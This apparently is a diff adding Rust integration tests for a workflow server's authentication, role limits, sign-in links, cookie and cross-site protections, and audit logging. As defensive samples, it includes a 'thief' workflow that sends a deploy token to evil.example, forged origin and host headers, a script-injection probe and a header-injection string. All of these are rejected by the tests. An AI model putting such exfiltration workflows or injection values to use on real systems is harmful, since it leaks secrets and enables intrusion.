@@ -1,0 +1,253 @@
+//! Who may use a server: tokens, sign-in links, cookies, roles, and attacks on them.
+
+use std::path::Path;
+
+use serde_json::{Value, json};
+
+use crate::client::{Response, Server, command};
+
+/// A server with a store of its own that demands sign-in.
+struct Guarded {
+    server: Server,
+    folder: tempfile::TempDir,
+}
+
+const HELLO: &str = "name: hello\nsteps:\n  - {id: greet, step_type: text, template: Hello}\n";
+
+impl Guarded {
+    fn new() -> Self {
+        let folder = tempfile::tempdir().expect("there is room for a store");
+        let store = folder.path().join("store.db");
+        let store = store.to_str().expect("a plain path").to_owned();
+        let arguments = ["serve", "--store", &store, "--listen", "127.0.0.1:0", "--require-sign-in"];
+        Self { server: Server::start(&arguments), folder }
+    }
+
+    fn store(&self) -> String {
+        self.folder.path().join("store.db").to_str().expect("a plain path").to_owned()
+    }
+
+    /// Runs `branchpoint token`, and returns what it prints.
+    fn token(&self, arguments: &[&str]) -> String {
+        let store = self.store();
+        let arguments = [&["token"], arguments, &["--store", &store]].concat();
+        let output = command(&arguments).output().expect("the program runs");
+        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+        String::from_utf8(output.stdout).expect("text").trim().to_owned()
+    }
+
+    fn with(&self, token: &str, method: &str, path: &str, body: &Value) -> Response {
+        let bearer = format!("Bearer {token}");
+        let headers = [("authorization", bearer.as_str()), ("content-type", "application/json")];
+        let body = if *body == Value::Null { String::new() } else { body.to_string() };
+        self.server.send(method, path, &headers, &body)
+    }
+}
+
+#[test]
+fn nothing_is_served_without_a_credential() {
+    let guarded = Guarded::new();
+    for path in ["/me", "/runs", "/workflows", "/approvals", "/events?topics=runs", "/settings/tokens", "//metrics"] {
+        let response = guarded.server.get(path);
+        assert_eq!(response.problem(401), "unauthenticated", "{path}");
+        assert_eq!(response.headers["www-authenticate"], "Bearer");
+    }
+    assert_eq!(guarded.server.post("/workflows", &json!({"text": HELLO})).problem(401), "unauthenticated");
+    assert_eq!(guarded.server.get("//healthz").status, 200);
+    for forged in ["", "x", "bp_", "bp_0_0", "bp_ffffffffffff_0000", "Basic x"] {
+        let response = guarded.with(forged, "GET", "/me", &Value::Null);
+        assert_eq!(response.problem(401), "unauthenticated", "{forged}");
+    }
+    let basic = guarded.server.send("GET", "/me", &[("authorization", "Basic YTpi")], "");
+    assert_eq!(basic.problem(401), "unauthenticated");
+}
+
+#[test]
+fn roles_and_patterns_limit_what_a_token_may_do() {
+    let guarded = Guarded::new();
+    let admin = guarded.token(&["create", "--role", "admin"]);
+    for name in ["support-a", "billing"] {
+        let body = json!({"text": HELLO, "name": name});
+        assert_eq!(guarded.with(&admin, "POST", "/workflows", &body).status, 201);
+        let run = json!({"workflow": name, "id": format!("run-{name}")});
+        assert_eq!(guarded.with(&admin, "POST", "/runs?wait=30s", &run).status, 200);
+    }
+    let viewer = guarded.token(&["create", "--user", "eve", "--role", "viewer", "--workflow", "support-*"]);
+    let me = guarded.with(&viewer, "GET", "/me", &Value::Null).expect(200);
+    assert_eq!((&me["user"], &me["can"]["operate"], &me["local"]), (&json!("eve"), &json!(false), &json!(false)));
+    let listed = guarded.with(&viewer, "GET", "/runs", &Value::Null).expect(200);
+    let ids: Vec<&Value> = listed["items"].as_array().unwrap().iter().map(|run| &run["id"]).collect();
+    assert_eq!(ids, ["run-support-a"]);
+    let names = guarded.with(&viewer, "GET", "/workflows", &Value::Null).expect(200);
+    assert_eq!(names["items"].as_array().unwrap().len(), 1);
+    for path in ["/runs/run-billing", "/runs/run-billing/trace", "/runs/run-billing/source", "/workflows/billing"] {
+        assert_eq!(guarded.with(&viewer, "GET", path, &Value::Null).problem(404), "not_found", "{path}");
+    }
+    assert_eq!(guarded.with(&viewer, "GET", "/events?topics=run:run-billing", &Value::Null).problem(403), "forbidden");
+    let start = json!({"workflow": "support-a"});
+    assert_eq!(guarded.with(&viewer, "POST", "/runs", &start).problem(403), "forbidden");
+    assert_eq!(
+        guarded.with(&viewer, "POST", "/runs/run-support-a/fork", &json!({"step": "greet"})).problem(403),
+        "forbidden"
+    );
+    assert_eq!(guarded.with(&viewer, "GET", "/settings/tokens", &Value::Null).problem(403), "forbidden");
+    assert_eq!(guarded.with(&viewer, "GET", "/settings/audit", &Value::Null).problem(403), "forbidden");
+    let operator = guarded.token(&["create", "--user", "op", "--role", "operator", "--workflow", "support-*"]);
+    assert_eq!(guarded.with(&operator, "POST", "/runs?wait=30s", &start).status, 200);
+    assert_eq!(guarded.with(&operator, "POST", "/runs", &json!({"workflow": "billing"})).problem(403), "forbidden");
+    let save = json!({"text": HELLO, "name": "support-b"});
+    assert_eq!(guarded.with(&operator, "POST", "/workflows", &save).problem(403), "forbidden");
+    let people = json!({"workflow": "support-a", "inputs": {"account": {"owner": "op"}}});
+    assert_eq!(guarded.with(&operator, "POST", "/runs", &people).problem(403), "forbidden");
+}
+
+#[test]
+fn a_revoked_token_is_rejected_at_once() {
+    let guarded = Guarded::new();
+    let admin = guarded.token(&["create", "--role", "admin"]);
+    let created = json!({"user": "ci", "role": "viewer", "expires_days": 1});
+    let created = guarded.with(&admin, "POST", "/settings/tokens", &created).expect(201);
+    let (token, id) = (created["token"].as_str().unwrap(), created["id"].as_str().unwrap());
+    assert_eq!(guarded.with(token, "GET", "/me", &Value::Null).status, 200);
+    let listed = guarded.with(&admin, "GET", "/settings/tokens", &Value::Null);
+    assert!(listed.text.contains(id) && !listed.text.contains(token));
+    assert_eq!(guarded.with(&admin, "DELETE", &format!("/settings/tokens/{id}"), &Value::Null).status, 204);
+    assert_eq!(guarded.with(token, "GET", "/me", &Value::Null).problem(401), "unauthenticated");
+    let expired = guarded.token(&["create", "--expires", "0s"]);
+    assert_eq!(guarded.with(&expired, "GET", "/me", &Value::Null).problem(401), "unauthenticated");
+}
+
+#[test]
+fn a_link_signs_in_one_browser_and_opening_it_signs_in_nobody() {
+    let guarded = Guarded::new();
+    let link = guarded.token(&["link", "--user", "eve", "--role", "editor"]);
+    let code = link.split_once("code=").unwrap().1.to_owned();
+    let opened = guarded.server.get(&format!("//sign-in?code={code}"));
+    assert!(opened.status == 200 && opened.text.contains("<form") && !opened.headers.contains_key("set-cookie"));
+    let sign_in = |origin: &str| {
+        let headers = [("content-type", "application/x-www-form-urlencoded"), ("origin", origin)];
+        guarded.server.send("POST", "//sign-in", &headers, &format!("code={code}"))
+    };
+    assert_eq!(sign_in("http://evil.example").problem(403), "forbidden");
+    let own = format!("http://{}", guarded.server.address);
+    let signed_in = sign_in(&own);
+    assert_eq!((signed_in.status, signed_in.headers["location"].as_str()), (303, "/"));
+    let cookie = signed_in.headers["set-cookie"].clone();
+    assert!(cookie.contains("HttpOnly") && cookie.contains("SameSite=Lax"), "{cookie}");
+    assert_eq!(sign_in(&own).problem(401), "unauthenticated");
+    let cookie = cookie.split(';').next().unwrap().to_owned();
+    let send = |method: &str, path: &str, extra: &[(&str, &str)], body: &str| {
+        let headers = [&[("cookie", cookie.as_str()), ("content-type", "application/json")], extra].concat();
+        guarded.server.send(method, path, &headers, body)
+    };
+    assert_eq!(send("GET", "/me", &[], "").expect(200)["user"], "eve");
+    let body = json!({"text": HELLO}).to_string();
+    assert_eq!(send("POST", "/workflows", &[], &body).problem(403), "forbidden");
+    assert_eq!(send("POST", "/workflows", &[("x-branchpoint", "1")], &body).status, 201);
+    let other_site = [("x-branchpoint", "1"), ("sec-fetch-site", "cross-site")];
+    assert_eq!(send("POST", "/workflows", &other_site, &body).problem(403), "forbidden");
+    // A cookie is no bearer token.
+    let token = cookie.split_once('=').unwrap().1;
+    assert_eq!(guarded.with(token, "GET", "/me", &Value::Null).problem(401), "unauthenticated");
+    assert_eq!(send("POST", "/sign-out", &[("x-branchpoint", "1")], "").status, 204);
+    assert_eq!(send("GET", "/me", &[], "").problem(401), "unauthenticated");
+    for code in ["", "\"><script>", "a%0d%0aset-cookie:x=1"] {
+        let page = guarded.server.get(&format!("//sign-in?code={}", code.replace(['"', '<', '>'], "%22")));
+        assert!(page.status == 400 && !page.text.contains("script") && !page.headers.contains_key("set-cookie"));
+    }
+}
+
+#[test]
+fn changes_are_logged_with_their_user_and_without_secrets() {
+    let guarded = Guarded::new();
+    let admin = guarded.token(&["create", "--user", "root", "--role", "admin"]);
+    let body = json!({"text": HELLO, "name": "hello"});
+    assert_eq!(guarded.with(&admin, "POST", "/workflows", &body).status, 201);
+    assert_eq!(guarded.server.post("/runs", &json!({"workflow": "hello"})).problem(401), "unauthenticated");
+    let run = json!({"workflow": "hello", "inputs": {"input": "x", "metadata": {"api_key": "canary-5ecret"}}});
+    assert_eq!(guarded.with(&admin, "POST", "/runs?wait=30s", &run).status, 200);
+    let entries = guarded.with(&admin, "GET", "/settings/audit", &Value::Null).expect(200);
+    let entries = entries.as_array().unwrap();
+    assert_eq!(entries[2]["path"], "/api/v1/workflows", "{entries:#?}");
+    assert_eq!((&entries[2]["user"], &entries[2]["status"]), (&json!("root"), &json!(201)));
+    assert_eq!((&entries[1]["user"], &entries[1]["status"]), (&Value::Null, &json!(401)));
+    let files = ["store.db.audit.jsonl", "store.db.access.json"];
+    for file in files {
+        let text = std::fs::read_to_string(Path::new(guarded.folder.path()).join(file)).unwrap();
+        assert!(!text.contains("canary-5ecret") && !text.contains(&admin), "{file}");
+    }
+    let listed = guarded.with(&admin, "GET", "/runs", &Value::Null);
+    let id = listed.json()["items"][0]["id"].as_str().unwrap().to_owned();
+    for path in ["", "/trace", "/trace/greet%231", "/export", "/recording"] {
+        let shown = guarded.with(&admin, "GET", &format!("/runs/{id}{path}"), &Value::Null);
+        assert!(shown.status == 200 && !shown.text.contains("canary-5ecret"), "{path}: {}", shown.text);
+    }
+}
+
+#[test]
+fn requests_under_other_names_and_of_other_pages_are_rejected() {
+    let server = Server::demo();
+    let rebound = server.send("GET", "/runs", &[("host", "evil.example")], "");
+    assert_eq!(rebound.problem(421), "misdirected");
+    for headers in [[("origin", "http://evil.example")], [("sec-fetch-site", "cross-site")], [("origin", "null")]] {
+        assert_eq!(server.send("POST", "/check", &headers, "{}").problem(403), "forbidden", "{headers:?}");
+    }
+    let form = [("content-type", "text/plain")];
+    assert_eq!(server.send("POST", "/runs", &form, "{}").problem(415), "unsupported_media");
+}
+
+#[test]
+fn large_requests_are_rejected() {
+    let server = Server::demo();
+    let body = json!({"text": "x".repeat(5 * 1024 * 1024)});
+    assert_eq!(server.post("/check", &body).problem(413), "too_large");
+    let long = "x".repeat(40_000);
+    let rejected = server.send("GET", "/runs", &[("x-long", &long)], "");
+    assert!([400, 431].contains(&rejected.status), "{}", rejected.status);
+}
+
+#[test]
+fn a_document_saved_over_the_api_gets_no_shell_and_no_keys() {
+    let server = Server::demo();
+    // The examples are part of the program, and so trusted; the same text under another name is not.
+    for (example, missing) in [("release", "commands"), ("code-review", "programs of agents")] {
+        let text = server.get(&format!("/workflows/{example}")).expect(200)["text"].as_str().unwrap().to_owned();
+        let name = format!("copy-of-{example}");
+        server.post("/workflows", &json!({"text": text, "name": name})).expect(201);
+        let start = server.post("/runs", &json!({"workflow": name, "live": true}));
+        assert_eq!(start.problem(403), "not_permitted", "{example}");
+        assert!(start.json()["missing"].to_string().contains(missing), "{example}: {}", start.text);
+    }
+    let thief = "name: thief\nsteps:\n  - id: send\n    step_type: http\n    url: https://evil.example/\n    headers: {x: '{{secret.DEPLOY_TOKEN}}'}\n";
+    let saved = server.post("/workflows", &json!({"text": thief}));
+    assert_eq!(saved.status, 201, "{}", saved.text);
+    let start = server.post("/runs", &json!({"workflow": "thief"}));
+    assert_eq!(start.problem(403), "not_permitted");
+    assert!(start.json()["missing"].to_string().contains("secret"), "{}", start.text);
+    // A trusted name does not help: a new version is a new document.
+    let etag = server.get("/workflows/release").headers["etag"].clone();
+    let text = server.get("/workflows/release").expect(200)["text"].as_str().unwrap().replace("git", "echo");
+    let changed = json!({"text": format!("{text}\n# changed\n")});
+    assert_eq!(server.put("/workflows/release", &[("if-match", &etag)], &changed).status, 200);
+    assert_eq!(server.post("/runs", &json!({"workflow": "release", "live": true})).problem(403), "not_permitted");
+    assert_eq!(server.get("/runs").expect(200)["items"], json!([]));
+}
+
+#[test]
+fn an_operator_permits_what_a_workflow_may_use() {
+    let folder = tempfile::tempdir().expect("there is room for a store");
+    let file =
+        "[[permissions]]\nworkflow = \"ops-*\"\ncommands = true\nenvironment = [\"*\"]\nfiles = true\nagents = true\n";
+    std::fs::write(folder.path().join("branchpoint.toml"), file).unwrap();
+    let store = folder.path().join("store.db").to_str().unwrap().to_owned();
+    let arguments = ["serve", "--store", &store, "--listen", "127.0.0.1:0"];
+    let server = Server::start_in(folder.path(), &arguments);
+    let text =
+        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../../examples/machine/build-and-fix.yaml"))
+            .unwrap();
+    for (name, status) in [("ops-release", 202), ("release", 403)] {
+        server.post("/workflows", &json!({"text": text, "name": name})).expect(201);
+        let started = server.post("/runs", &json!({"workflow": name, "inputs": {}}));
+        assert_eq!(started.status, status, "{}", started.text);
+    }
+}
